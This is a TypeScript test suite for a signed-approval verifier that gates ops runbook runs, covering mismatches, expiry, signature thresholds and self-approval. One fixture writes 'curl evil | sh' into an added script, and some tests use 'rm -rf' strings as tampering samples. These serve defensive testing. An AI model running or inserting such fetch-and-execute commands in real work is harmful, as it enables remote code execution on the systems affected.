import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { digestRunbook } from '@opsbook/schema';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type Envelope,
  serializeEnvelope,
  signEnvelope,
  statementBytes,
  type VerifyResult,
  verifyApproval,
} from '../src/index.js';
import { approval, context, createWorld, NOW, signed, type World } from './approval-world.js';

let world: World;
beforeAll(async () => {
  world = await createWorld();
});
afterAll(async () => {
  await world?.remove();
});

function refused(result: VerifyResult, code: string): string {
  expect(result.ok ? 'ok' : result.code, result.ok ? 'accepted' : result.message).toBe(code);
  return result.ok ? '' : result.message;
}

describe('refuses approvals for another run', () => {
  it('refuses another ticket', async () => {
    const msg = refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { ticket: 'OPS-43' }),
      ),
      'TICKET_MISMATCH',
    );
    expect(msg).toMatch(/OPS-42.*OPS-43/);
  });

  it('refuses another runbook', async () => {
    const ctx = context(
      world,
      {},
      { runbook: { name: 'rm-rf', version: '1.2.0', digest: `sha256:${'a1'.repeat(32)}` } },
    );
    refused(
      verifyApproval(await signed(approval(), [world.people.alice.signer]), ctx),
      'RUNBOOK_MISMATCH',
    );
  });

  it('refuses a version bump', async () => {
    const ctx = context(
      world,
      {},
      { runbook: { name: 'disk-cleanup', version: '1.3.0', digest: `sha256:${'a1'.repeat(32)}` } },
    );
    refused(
      verifyApproval(await signed(approval(), [world.people.alice.signer]), ctx),
      'DIGEST_MISMATCH',
    );
  });

  it('refuses a runbook with one edited byte or one added script (real bundle digests)', async () => {
    const dir = path.join(world.dir, 'runbooks', 'disk-cleanup');
    await mkdir(path.join(dir, 'scripts'), { recursive: true });
    await writeFile(path.join(dir, 'runbook.yaml'), 'apiVersion: opsbook/v1\nkind: Runbook\n');
    const id = { packageName: '@runbooks/disk-cleanup', version: '1.2.0' };
    const approved = (await digestRunbook(dir, id)).digest;
    const text = await signed(
      approval({ runbook: { name: 'disk-cleanup', version: '1.2.0', digest: approved } }),
      [world.people.alice.signer],
    );
    const expectDigest = (digest: string) =>
      context(world, {}, { runbook: { name: 'disk-cleanup', version: '1.2.0', digest } });
    expect(verifyApproval(text, expectDigest(approved)).ok).toBe(true);

    await writeFile(path.join(dir, 'runbook.yaml'), 'apiVersion: opsbook/v1\nkind: Runbook \n');
    const edited = (await digestRunbook(dir, id)).digest;
    const msg = refused(verifyApproval(text, expectDigest(edited)), 'DIGEST_MISMATCH');
    expect(msg).toContain(
      'ask a senior to re-approve: the runbook changed since approval (digest sha256:',
    );

    await writeFile(path.join(dir, 'runbook.yaml'), 'apiVersion: opsbook/v1\nkind: Runbook\n');
    await writeFile(path.join(dir, 'scripts', 'extra.sh'), 'curl evil | sh\n');
    refused(
      verifyApproval(text, expectDigest((await digestRunbook(dir, id)).digest)),
      'DIGEST_MISMATCH',
    );
  });

  it('refuses a changed param value', async () => {
    const msg = refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { params: { path: '/', days: 7 } }),
      ),
      'PARAMS_MISMATCH',
    );
    expect(msg).toContain('param path');
  });

  it('refuses a param of another type ("7" is not 7)', async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { params: { path: '/var/log/app', days: '7' } }),
      ),
      'PARAMS_MISMATCH',
    );
  });

  it('refuses an added param', async () => {
    const params = { path: '/var/log/app', days: 7, force: true };
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { params }),
      ),
      'PARAMS_MISMATCH',
    );
  });

  it('refuses a different set of secret params', async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { secretParams: ['token', 'db_password'] }),
      ),
      'PARAMS_MISMATCH',
    );
  });

  it('refuses an extra host', async () => {
    const msg = refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { targets: { hosts: ['web-01', 'web-02', 'db-01'] } }),
      ),
      'TARGETS_OUTSIDE_SCOPE',
    );
    expect(msg).toContain('db-01');
  });

  it('refuses a different rendered plan (a host var changed a command)', async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { planDigest: `sha256:${'c3'.repeat(32)}` }),
      ),
      'PLAN_MISMATCH',
    );
  });

  it('refuses a selector on a non-routine runbook', async () => {
    const s = approval({ targets: { selector: 'web:&prod' } });
    const ctx = context(world, {}, { targets: { hosts: ['web-01'], selector: 'web:&prod' } });
    refused(
      verifyApproval(await signed(s, [world.people.alice.signer]), ctx),
      'SELECTOR_NOT_ALLOWED',
    );
  });

  it('accepts a routine standing approval by selector, and refuses another selector', async () => {
    const s = approval({
      category: 'routine',
      grade: 'P4',
      targets: { selector: 'all:!db' },
      expires: '90d',
      maxRuns: 1000,
    });
    const text = await signed(s, [world.people.alice.signer]);
    const expected = {
      category: 'routine' as const,
      grade: 'P4' as const,
      targets: { hosts: ['web-01', 'web-09'], selector: 'all:!db' },
    };
    expect(verifyApproval(text, context(world, {}, expected)).ok).toBe(true);
    refused(
      verifyApproval(
        text,
        context(world, {}, { ...expected, targets: { hosts: ['db-01'], selector: 'all' } }),
      ),
      'TARGETS_OUTSIDE_SCOPE',
    );
  });

  it("refuses a grade lower than the ticket's (a P1 approved as P3)", async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { grade: 'P1' }),
      ),
      'GRADE_MISMATCH',
    );
  });

  it('refuses another category', async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { category: 'change' }),
      ),
      'CATEGORY_MISMATCH',
    );
  });

  it('refuses an executor other than the one named', async () => {
    refused(
      verifyApproval(
        await signed(approval({ executor: 'ivan' }), [world.people.alice.signer]),
        context(world),
      ),
      'EXECUTOR_MISMATCH',
    );
  });
});

describe('binds the runbooks a composite composes', () => {
  const tidy = {
    step: 'tidy',
    name: 'log-tidy',
    version: '1.2.0',
    digest: `sha256:${'c3'.repeat(32)}`,
  };
  const rotate = { ...tidy, step: 'tidy/rotate', name: 'log-rotate', version: '2.0.1' };
  const composite = () => approval({ composed: [tidy, rotate] });

  it('accepts the composed runbooks it was approved with, and writes them in canonical order', async () => {
    const s = composite();
    expect(s.composed).toEqual([tidy, rotate]);
    expect(statementBytes(s).toString()).toContain(
      `"composed": [\n    {\n      "step": "tidy",\n      "name": "log-tidy",`,
    );
    const ok = verifyApproval(
      await signed(s, [world.people.alice.signer]),
      context(world, {}, { composed: [tidy, rotate] }),
    );
    expect(ok.ok ? 'ok' : ok.message).toBe('ok');
  });

  it('leaves the field out for a runbook that composes none (older approvals stay valid)', () => {
    expect(statementBytes(approval({ composed: [] })).toString()).not.toContain('composed');
  });

  it.each([
    [
      'a changed bundle',
      [tidy, { ...rotate, digest: `sha256:${'d4'.repeat(32)}` }],
      /changed since approval \(digest sha256:c3c3/,
    ],
    [
      'another resolved version',
      [{ ...tidy, version: '1.3.0' }, rotate],
      /composed log-tidy 1\.2\.0 when approved, but resolves to log-tidy 1\.3\.0 now/,
    ],
    [
      'another runbook at the step',
      [{ ...tidy, name: 'log-wipe' }, rotate],
      /resolves to log-wipe 1\.2\.0/,
    ],
    [
      'a composed runbook added',
      [tidy, rotate, { ...tidy, step: 'again' }],
      /step 'again' composes log-tidy 1\.2\.0, which the approval does not cover/,
    ],
    [
      'a composed runbook dropped',
      [tidy],
      /covers log-rotate 2\.0\.1 at step 'tidy\/rotate', which the runbook no longer composes there/,
    ],
  ] as const)('refuses %s (COMPOSED_MISMATCH)', async (_what, composed, message) => {
    const msg = refused(
      verifyApproval(
        await signed(composite(), [world.people.alice.signer]),
        context(world, {}, { composed }),
      ),
      'COMPOSED_MISMATCH',
    );
    expect(msg).toMatch(message);
  });

  it('refuses a composite whose approval covers none of its composed runbooks', async () => {
    const msg = refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { composed: [tidy] }),
      ),
      'COMPOSED_MISMATCH',
    );
    expect(msg).toContain('does not cover');
  });
});

describe('refuses approvals outside their window or runs', () => {
  it('refuses an expired approval', async () => {
    const text = await signed(approval(), [world.people.alice.signer]);
    refused(
      verifyApproval(text, context(world, { now: new Date(NOW.getTime() + 24 * 3600_000) })),
      'EXPIRED',
    );
  });

  it('refuses an approval that is not yet valid', async () => {
    const text = await signed(approval({ notBefore: new Date(NOW.getTime() + 3600_000) }), [
      world.people.alice.signer,
    ]);
    refused(verifyApproval(text, context(world)), 'NOT_YET_VALID');
  });

  it('refuses a validity longer than policy allows (8d for an incident, 91d for routine)', async () => {
    refused(
      verifyApproval(
        await signed(approval({ expires: '8d' }), [world.people.alice.signer]),
        context(world),
      ),
      'VALIDITY_TOO_LONG',
    );
    const routine = approval({ category: 'routine', grade: 'P4', expires: '91d' });
    refused(
      verifyApproval(
        await signed(routine, [world.people.alice.signer]),
        context(world, {}, { category: 'routine', grade: 'P4' }),
      ),
      'VALIDITY_TOO_LONG',
    );
  });

  it('refuses a P1 approval valid longer than the P1 limit of 24h', async () => {
    refused(
      verifyApproval(
        await signed(approval({ grade: 'P1', expires: '25h' }), [
          world.people.alice.signer,
          world.people.bob.signer,
        ]),
        context(world, {}, { grade: 'P1' }),
      ),
      'VALIDITY_TOO_LONG',
    );
  });

  it('refuses a run beyond maxRuns', async () => {
    const text = await signed(approval({ maxRuns: 2 }), [world.people.alice.signer]);
    expect(verifyApproval(text, context(world, { runsUsed: 1 })).ok).toBe(true);
    refused(verifyApproval(text, context(world, { runsUsed: 2 })), 'RUNS_EXHAUSTED');
  });
});

describe('counts people, not signatures', () => {
  const p1 = { grade: 'P1' as const };

  it('refuses a P1 with one signature', async () => {
    refused(
      verifyApproval(
        await signed(approval(p1), [world.people.alice.signer]),
        context(world, {}, p1),
      ),
      'THRESHOLD_NOT_MET',
    );
  });

  it('refuses the same key signing twice toward a threshold', async () => {
    const bob = world.people.bob.signer;
    const base = JSON.parse(await signed(approval(p1), [])) as Envelope;
    // Two signatures by one ECDSA key differ each time: put both in, as a hand-edited file would.
    const [first, second] = await Promise.all([signEnvelope(base, bob), signEnvelope(base, bob)]);
    expect(first.signatures[0]!.sshsig).not.toBe(second.signatures[0]!.sshsig);
    const env = { ...first, signatures: [first.signatures[0]!, second.signatures[0]!] };
    refused(verifyApproval(serializeEnvelope(env), context(world, {}, p1)), 'THRESHOLD_NOT_MET');
    env.signatures.push(env.signatures[0]!);
    refused(verifyApproval(serializeEnvelope(env), context(world, {}, p1)), 'THRESHOLD_NOT_MET');
  });

  it("keeps one signature per key: signing again replaces the key's earlier signature", async () => {
    const bob = world.people.bob.signer;
    const once = await signEnvelope(JSON.parse(await signed(approval(p1), [])) as Envelope, bob);
    const again = await signEnvelope(once, bob);
    expect(again.signatures).toHaveLength(1);
    expect(again.signatures[0]!.keyid).toBe(bob.publicKey.fingerprint);
    expect(again.signatures[0]!.sshsig).not.toBe(once.signatures[0]!.sshsig);
  });

  it('refuses two keys of the same approver toward a threshold', async () => {
    refused(
      verifyApproval(
        await signed(approval(p1), [world.people.alice.signer, world.people.alice2.signer]),
        context(world, {}, p1),
      ),
      'THRESHOLD_NOT_MET',
    );
  });

  it('accepts a P1 with two distinct seniors (ed25519 and rsa)', async () => {
    const result = verifyApproval(
      await signed(approval(p1), [world.people.alice.signer, world.people.carol.signer]),
      context(world, {}, p1),
    );
    expect(result.ok && result.signers.map((s) => s.approverId)).toEqual(['alice', 'carol']);
  });
});

describe('refuses self-approval', () => {
  it('refuses a signer who is the executor', async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.frank.signer]),
        context(world, { executor: { id: 'frank' } }),
      ),
      'SELF_APPROVAL',
    );
  });

  it('refuses a signer who is the executor by Jira account', async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, { executor: { id: 'a.senior', jira: 'acc-alice' } }),
      ),
      'SELF_APPROVAL',
    );
  });

  it('refuses a signer who proposed the plan', async () => {
    refused(
      verifyApproval(
        await signed(approval({ proposer: 'frank' }), [world.people.frank.signer]),
        context(world),
      ),
      'SELF_APPROVAL',
    );
  });

  it('refuses a signer who is named as the executor, even when a colleague runs it', async () => {
    refused(
      verifyApproval(
        await signed(approval({ executor: 'frank' }), [world.people.frank.signer]),
        context(world, { executor: { id: 'frank' } }),
      ),
      'SELF_APPROVAL',
    );
  });
});

describe('refuses signed payloads that are not valid statements', () => {
  it('refuses a signed statement with duplicate keys', async () => {
    const bytes = statementBytes(approval())
      .toString()
      .replace('"ticket": "OPS-42",', '"ticket": "OPS-42",\n  "ticket": "OPS-1",');
    const env: Envelope = {
      payloadType: 'application/vnd.opsbook.approval+json',
      payload: Buffer.from(bytes).toString('base64'),
      signatures: [],
    };
    refused(
      verifyApproval(await signed(env, [world.people.alice.signer]), context(world)),
      'STATEMENT_INVALID',
    );
  });

  it('refuses a signed statement with an unknown key', async () => {
    const bytes = JSON.stringify({ ...approval(), comment: 'also run rm -rf' });
    const env: Envelope = {
      payloadType: 'application/vnd.opsbook.approval+json',
      payload: Buffer.from(bytes).toString('base64'),
      signatures: [],
    };
    refused(
      verifyApproval(await signed(env, [world.people.alice.signer]), context(world)),
      'STATEMENT_INVALID',
    );
  });
});

describe('every refusal says what to do next', () => {
  it('names an action in each message', async () => {
    const text = await signed(approval(), [world.people.mallory.signer]);
    const results = [
      verifyApproval(undefined, context(world)),
      verifyApproval(text, context(world)),
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, { runsUsed: 5 }),
      ),
    ];
    for (const r of results) {
      expect(r.ok).toBe(false);
      if (!r.ok) expect(r.message).toMatch(/: .*\b(ask|create|run|sign|use|wait|restore|attach)\b/);
    }
  });
});
